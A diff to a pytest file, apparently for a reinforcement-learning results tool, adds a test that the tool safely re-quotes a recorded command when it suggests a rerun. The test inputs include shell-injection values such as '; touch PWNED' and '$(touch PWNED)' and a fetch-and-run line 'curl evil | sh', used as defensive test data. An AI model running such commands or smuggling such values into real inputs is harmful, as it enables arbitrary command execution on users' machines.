@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 import shutil
 from pathlib import Path
 
@@ -200,3 +201,22 @@ def test_many_rows_are_thinned_and_the_numbers_are_not(tmp_path: Path) -> None:
     assert run.curve("gradvar/before")[0] == pytest.approx(np.mean(np.float32(metrics["gradvar/before"][[0, 10]])))
     assert run.curve("kl/old_exact:max").max() == 5.0 and run.reduced.spike_rates.tolist() == [0.001]
     assert run.number("return/train_mean", "final") == pytest.approx(np.mean(np.float32(metrics["return/train_mean"][-100:])))
+
+
+@pytest.mark.parametrize(
+    ("command", "advice"),
+    [
+        ("rgpo-run algo=ppo; touch PWNED", "rgpo-run 'algo=ppo;' touch PWNED force=true"),
+        ("rgpo-run seed=$(touch PWNED)", "rgpo-run 'seed=$(touch' 'PWNED)' force=true"),
+        ("rgpo-run 'seed=1,2' force=true", "rgpo-run seed=1,2 force=true"),
+        ("curl evil | sh", "rgpo-run ... force=true"),
+        ("rgpo-run 'half", "rgpo-run ... force=true"),
+    ],
+)
+def test_a_recorded_command_is_quoted_anew(command: str, advice: str, here: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    folder = fixtures.write_run(here / "results")
+    facts = json.loads((folder / "provenance.json").read_text())
+    (folder / "provenance.json").write_text(json.dumps(facts | {"command": command}))
+    (folder / "metrics.parquet").unlink()
+    assert main([*FAST, "figures=[]"]) == 1
+    assert f"rerun it with `{advice}`" in capsys.readouterr().err
